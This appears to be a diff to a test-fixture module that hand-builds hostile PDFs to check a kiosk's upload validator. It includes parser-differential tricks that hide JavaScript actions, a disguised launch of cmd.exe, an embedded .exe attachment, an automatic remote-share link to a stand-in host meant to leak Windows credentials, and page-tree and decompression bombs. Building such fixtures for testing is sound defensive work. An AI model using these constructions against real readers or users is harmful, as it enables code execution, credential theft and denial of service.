@@ -3,7 +3,7 @@
  * can hand the kiosk. Pictures come from sharp (libvips), PNG headers are written by hand where a real
  * encoder would refuse to make them, PDFs from pdf-lib's low-level API.
  */
-import { crc32, deflateSync } from 'node:zlib';
+import { crc32, createDeflate, deflateSync } from 'node:zlib';
 import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
 import sharp from 'sharp';
 
@@ -166,3 +166,144 @@ export const encryptedPdf = () =>
 /** "%PDF-" and then nothing a PDF reader can use. */
 export const malformedPdf = () =>
   Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 9 0 R\nxref\ngarbage');
+
+// ── PDFs written by hand, where a reader (Acrobat, pdf.js, poppler: through the cross-reference table)
+// and pdf-lib (front to back) would see different objects. Offsets are computed, so readers open them.
+
+type Chunk = [number, string] | [null, string];
+
+/** `%PDF-1.7`, the objects in order, an xref naming each object's offset (or `offsets`' override). */
+function handWritten(chunks: Chunk[], edit?: (file: string, offsets: Map<number, number>) => string): Buffer {
+  let file = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
+  const offsets = new Map<number, number>();
+  for (const [num, body] of chunks) {
+    if (num === null) {
+      file += body;
+      continue;
+    }
+    offsets.set(num, file.length);
+    file += `${num} 0 obj\n${body}\nendobj\n`;
+  }
+  if (edit) file = edit(file, offsets);
+  const size = Math.max(...offsets.keys()) + 1;
+  const xref = file.length;
+  file += `xref\n0 ${size}\n0000000000 65535 f \n`;
+  for (let i = 1; i < size; i++) {
+    const at = offsets.get(i);
+    file += at === undefined ? '0000000000 65535 f \n' : `${String(at).padStart(10, '0')} 00000 n \n`;
+  }
+  file += `trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
+  return Buffer.from(file, 'latin1');
+}
+
+const TEXT = 'BT /F1 24 Tf 72 700 Td (Giay to cong dan) Tj ET';
+function page(catalogExtra = '', pageExtra = ''): Chunk[] {
+  return [
+    [1, `<< /Type /Catalog /Pages 2 0 R ${catalogExtra}>>`],
+    [2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'],
+    [
+      3,
+      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 6 0 R >> >> ${pageExtra}>>`,
+    ],
+    [4, `<< /Length ${TEXT.length} >>\nstream\n${TEXT}\nendstream`],
+    [6, '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'],
+  ];
+}
+const LINK: Chunk = [8, '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 0] /A 5 0 R >>'];
+const JS_ACTION = '<< /Type /Action /S /JavaScript /JS (app.alert\\("pwned"\\)) >>';
+
+/** Object 5 (JavaScript) as readers see it; a clean object 5 later in the file, as pdf-lib keeps it. */
+export const duplicateObjectPdf = () =>
+  handWritten([...page('/OpenAction 5 0 R ', '/Annots [8 0 R] '), LINK, [5, JS_ACTION]], (file, offsets) => {
+    const first = offsets.get(5)!;
+    const out = `${file}5 0 obj\n<< /Type /Action /S /Named /N /FirstPage >>\nendobj\n`;
+    offsets.set(5, first);
+    return out;
+  });
+
+/** A JavaScript action pdf-lib cannot parse (a number where a key belongs); readers skip the bad key. */
+export const invalidObjectPdf = () =>
+  handWritten([
+    ...page('/OpenAction 5 0 R ', '/Annots [8 0 R] '),
+    LINK,
+    [5, '<< 0 /Type /Action /S /JavaScript /JS (app.alert\\("pwned"\\)) >>'],
+  ]);
+
+/** The JavaScript object written inside another stream's data; the xref points into it. */
+export const objectInStreamPdf = () => {
+  const hidden = `% padding\n5 0 obj\n${JS_ACTION}\nendobj\n`;
+  return handWritten(
+    [
+      ...page('/OpenAction 5 0 R ', '/Annots [8 0 R] '),
+      LINK,
+      [7, `<< /Length ${hidden.length} >>\nstream\n${hidden}\nendstream`],
+    ],
+    (file, offsets) => {
+      offsets.set(5, file.indexOf('5 0 obj\n<< /Type /Action'));
+      return file;
+    },
+  );
+};
+
+/** A launch action whose `/S` is a reference to the name /Launch. */
+export const indirectLaunchPdf = () =>
+  handWritten([
+    ...page('/OpenAction 5 0 R '),
+    [5, '<< /S 12 0 R /F (C:\\\\Windows\\\\System32\\\\cmd.exe) >>'],
+    [12, '/Launch'],
+  ]);
+
+/** A file attachment annotation whose embedded stream does not say /Type /EmbeddedFile. */
+export const fileAttachmentPdf = () =>
+  handWritten([
+    ...page('', '/Annots [8 0 R] '),
+    [
+      8,
+      '<< /Type /Annot /Subtype /FileAttachment /Rect [72 600 92 620] /FS << /Type /Filespec /F (huongdan.exe) /EF << /F 9 0 R >> >> >>',
+    ],
+    [9, '<< /Length 12 >>\nstream\nMZ a program\nendstream'],
+  ]);
+
+/** Opens a file on a Windows share when the PDF opens (a staff PC would send its credentials). */
+export const remoteGoToPdf = () =>
+  handWritten([
+    ...page('/OpenAction 5 0 R '),
+    [5, '<< /S /GoToR /F (\\\\\\\\203.0.113.7\\\\share\\\\x.pdf) /D [0 /Fit] >>'],
+  ]);
+
+/** A page tree of `depth` nodes, each listing the next twice: 2^depth pages from a few objects. */
+export const pageTreeBombPdf = (depth = 40) => {
+  const chunks: Chunk[] = [
+    [1, '<< /Type /Catalog /Pages 10 0 R >>'],
+    [4, '<< /Length 0 >>\nstream\n\nendstream'],
+  ];
+  for (let i = 0; i < depth; i++)
+    chunks.push([10 + i, `<< /Type /Pages /Kids [${11 + i} 0 R ${11 + i} 0 R] /Count 2 >>`]);
+  chunks.push([10 + depth, '<< /Type /Page /MediaBox [0 0 595 842] /Contents 4 0 R >>']);
+  return handWritten(chunks);
+};
+
+/**
+ * An object stream that inflates to `decodedMegabytes` of zeros (about 1,000 times its compressed size):
+ * pdf-lib inflates it whole while loading. Compressed chunk by chunk, so the test holds only the result.
+ */
+export async function objectStreamBombPdf(decodedMegabytes: number): Promise<Buffer> {
+  const deflate = createDeflate({ level: 9 });
+  const parts: Buffer[] = [];
+  deflate.on('data', (part: Buffer) => parts.push(part));
+  const done = new Promise((resolve) => deflate.on('end', resolve));
+  const zeros = Buffer.alloc(1024 * 1024);
+  deflate.write('5 0 ');
+  for (let i = 0; i < decodedMegabytes; i++)
+    if (!deflate.write(zeros)) await new Promise((resolve) => deflate.once('drain', resolve));
+  deflate.end('null');
+  await done;
+  const data = Buffer.concat(parts).toString('latin1');
+  return handWritten([
+    ...page(),
+    [
+      7,
+      `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${data.length} >>\nstream\n${data}\nendstream`,
+    ],
+  ]);
+}
